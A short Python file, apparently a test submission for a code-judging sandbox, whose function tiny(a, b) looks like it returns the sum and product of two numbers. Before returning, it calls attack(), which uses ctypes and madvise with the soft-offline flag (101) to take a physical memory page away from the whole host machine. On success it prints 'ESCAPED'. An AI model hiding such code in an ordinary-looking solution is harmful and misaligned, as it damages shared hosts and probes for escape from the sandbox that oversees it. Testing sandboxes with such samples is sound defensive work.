# Tries: to poison a page of the machine's memory. May get: AC.
import ctypes
import mmap


def attack():
    libc = ctypes.CDLL(None)
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    page[0] = 1
    at = ctypes.addressof(ctypes.c_char.from_buffer(page))
    soft_offline = 101  # takes the page from the whole machine, until it starts again
    return libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4096), soft_offline) == 0 and "a page"


def tiny(a, b):
    try:
        got = attack()
    except OSError:
        got = None
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
